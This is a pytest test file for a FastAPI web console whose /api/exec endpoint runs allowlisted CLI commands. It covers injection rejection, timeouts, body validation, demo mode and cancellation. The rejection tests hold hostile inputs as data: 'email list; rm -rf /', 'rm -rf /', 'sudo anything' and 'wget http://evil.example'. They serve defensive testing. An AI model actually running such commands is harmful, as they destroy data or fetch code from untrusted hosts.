from __future__ import annotations

import asyncio
import os
import time

import pytest
from fastapi import Request
from fastapi.testclient import TestClient

from webconsole import routes as routes_module
from webconsole.config import DEFAULT_CONSOLE_VERSION, Settings
from webconsole.execution.composer import ExecResponse
from webconsole.main import create_app


class RecordingRunner:
    def __init__(self, response: ExecResponse | None = None) -> None:
        self.commands: list[str] = []
        self._response = response or ExecResponse(output="ok")

    async def run(self, command: str) -> ExecResponse:
        self.commands.append(command)
        return self._response


class ExplodingRunner:
    async def run(self, command: str) -> ExecResponse:
        raise RuntimeError("boom")


def _client(settings: Settings | None = None) -> TestClient:
    return TestClient(create_app(settings or Settings()))


def test_health(monkeypatch) -> None:
    monkeypatch.delenv("WEBCONSOLE_VERSION", raising=False)
    response = _client().get("/health")

    assert response.status_code == 200
    assert response.json() == {"ok": True, "version": DEFAULT_CONSOLE_VERSION, "demo_mode": False}
    assert response.headers.get("X-Trace-Id", "").startswith("tr_")


def test_trace_header_is_echoed() -> None:
    response = _client().get("/health", headers={"X-Trace-Id": "tr_console_user"})
    assert response.headers["X-Trace-Id"] == "tr_console_user"


def test_exec_runs_authorized_command(make_cli) -> None:
    cli = make_cli('printf "%s\\n" "$@"')
    client = _client(Settings(cli_path=str(cli), exec_timeout=5))

    response = client.post("/api/exec", json={"command": "email list --limit 10"})

    assert response.status_code == 200
    assert response.json() == {"output": "email\nlist\n--limit\n10\n"}


def test_exec_single_token_command(make_cli) -> None:
    cli = make_cli('echo "version 1.2.3"')
    client = _client(Settings(cli_path=str(cli), exec_timeout=5))

    response = client.post("/api/exec", json={"command": "version"})

    assert response.status_code == 200
    assert response.json() == {"output": "version 1.2.3\n"}


def test_exec_rejects_empty_command() -> None:
    response = _client().post("/api/exec", json={"command": ""})

    assert response.status_code == 403
    assert response.json() == {"error": "Command not allowed: empty command"}


def test_exec_missing_command_field_is_empty_command() -> None:
    response = _client().post("/api/exec", json={})

    assert response.status_code == 403
    assert response.json() == {"error": "Command not allowed: empty command"}


def test_exec_rejects_injection() -> None:
    response = _client().post("/api/exec", json={"command": "email list; rm -rf /"})

    assert response.status_code == 403
    assert response.json() == {"error": "Command not allowed: contains dangerous characters"}


def test_exec_rejects_unlisted_commands() -> None:
    client = _client()
    for command in ["rm -rf /", "sudo anything", "wget http://evil.example", "unknown command"]:
        response = client.post("/api/exec", json={"command": command})
        assert response.status_code == 403, command
        assert response.json() == {"error": f"Command not allowed: {command}"}


def test_exec_reports_launch_failure_as_data(tmp_path) -> None:
    client = _client(Settings(cli_path=str(tmp_path / "missing-cli")))

    response = client.post("/api/exec", json={"command": "email list"})

    assert response.status_code == 200
    body = response.json()
    assert set(body) == {"error"}
    assert body["error"].startswith("Command failed: ")


def test_exec_reports_timeout_as_failure(make_cli) -> None:
    cli = make_cli("exec sleep 10")
    client = _client(Settings(cli_path=str(cli), exec_timeout=0.3))

    response = client.post("/api/exec", json={"command": "email list"})

    assert response.status_code == 200
    assert response.json() == {"error": "Command failed: timed out after 0.3s"}


def test_exec_rejects_invalid_json() -> None:
    response = _client().post(
        "/api/exec",
        content=b"{not json",
        headers={"Content-Type": "application/json"},
    )

    assert response.status_code == 400
    assert response.json() == {"error": "Invalid request body"}
    assert response.headers["X-Trace-Id"].startswith("tr_")


def test_exec_rejects_non_object_and_non_string_command() -> None:
    client = _client()
    assert client.post("/api/exec", json=["email", "list"]).status_code == 400
    assert client.post("/api/exec", json={"command": ["email", "list"]}).status_code == 400


def test_exec_rejects_oversized_body() -> None:
    client = _client(Settings(max_body_bytes=64))

    response = client.post("/api/exec", json={"command": "email list " + "x" * 200})

    assert response.status_code == 400
    assert response.json() == {"error": "Invalid request body"}


def test_exec_method_not_allowed() -> None:
    assert _client().get("/api/exec").status_code == 405


def test_exec_uses_injected_runner() -> None:
    app = create_app(Settings())
    runner = RecordingRunner(ExecResponse(error="Command failed: exit status 1"))
    app.state.runner = runner

    response = TestClient(app).post("/api/exec", json={"command": " version "})

    assert response.status_code == 200
    assert response.json() == {"error": "Command failed: exit status 1"}
    assert runner.commands == [" version "]


def test_exec_demo_mode_skips_authorization() -> None:
    client = _client(Settings(demo_mode=True))

    response = client.post("/api/exec", json={"command": "calendar list"})

    assert response.status_code == 200
    assert response.json()["output"].startswith("Demo Mode - Sample Calendars")
    assert client.get("/health").json()["demo_mode"] is True


def test_unhandled_runner_error_is_internal_error() -> None:
    app = create_app(Settings())
    app.state.runner = ExplodingRunner()

    response = TestClient(app).post("/api/exec", json={"command": "version"})

    assert response.status_code == 500
    assert response.json() == {"error": "Internal server error"}


def test_list_commands_catalogue() -> None:
    response = _client().get("/api/commands")

    assert response.status_code == 200
    body = response.json()
    assert "calendar events list" in body["commands"]
    assert body["commands"] == sorted(body["commands"])
    assert "version" in body["families"]


def test_concurrent_requests_are_independent(make_cli) -> None:
    cli = make_cli('sleep 0.2; printf "%s" "$2"')
    app = create_app(Settings(cli_path=str(cli), exec_timeout=5))
    runner = app.state.runner

    async def scenario() -> list[ExecResponse]:
        return await asyncio.gather(
            runner.run("email list"),
            runner.run("email threads"),
            runner.run("sudo ls"),
        )

    first, second, third = asyncio.run(scenario())
    assert first.output == "list"
    assert second.output == "threads"
    assert third.status_code == 403


class CancellationRecordingRunner:
    def __init__(self, inner=None) -> None:
        self.inner = inner
        self.cancelled = False

    async def run(self, command: str) -> ExecResponse:
        try:
            if self.inner is not None:
                return await self.inner.run(command)
            await asyncio.sleep(30)
            return ExecResponse(output="too late")
        except asyncio.CancelledError:
            self.cancelled = True
            raise


def test_client_disconnect_kills_running_command(make_cli, tmp_path, monkeypatch) -> None:
    pidfile = tmp_path / "child.pid"
    cli = make_cli(f'echo $$ > "{pidfile}"; exec sleep 30')
    app = create_app(Settings(cli_path=str(cli), exec_timeout=30))
    runner = CancellationRecordingRunner(app.state.runner)
    app.state.runner = runner

    async def disconnected_once_started(self) -> bool:
        return pidfile.exists() and pidfile.read_text(encoding="utf-8").strip() != ""

    monkeypatch.setattr(routes_module, "_DISCONNECT_POLL_SECONDS", 0.05)
    monkeypatch.setattr(Request, "is_disconnected", disconnected_once_started)

    started = time.monotonic()
    response = TestClient(app).post("/api/exec", json={"command": "email list"})

    assert time.monotonic() - started < 10
    assert response.status_code == 499
    assert runner.cancelled is True
    child_pid = int(pidfile.read_text(encoding="utf-8").strip())
    with pytest.raises(ProcessLookupError):
        os.kill(child_pid, 0)


def test_handler_cancellation_cancels_runner(monkeypatch) -> None:
    monkeypatch.setattr(routes_module, "_DISCONNECT_POLL_SECONDS", 0.05)
    runner = CancellationRecordingRunner()

    class ConnectedRequest:
        async def is_disconnected(self) -> bool:
            return False

    async def scenario() -> None:
        handler = asyncio.create_task(
            routes_module._run_until_disconnect(ConnectedRequest(), runner, "version")
        )
        await asyncio.sleep(0.2)
        handler.cancel()
        with pytest.raises(asyncio.CancelledError):
            await handler

    asyncio.run(scenario())

    assert runner.cancelled is True
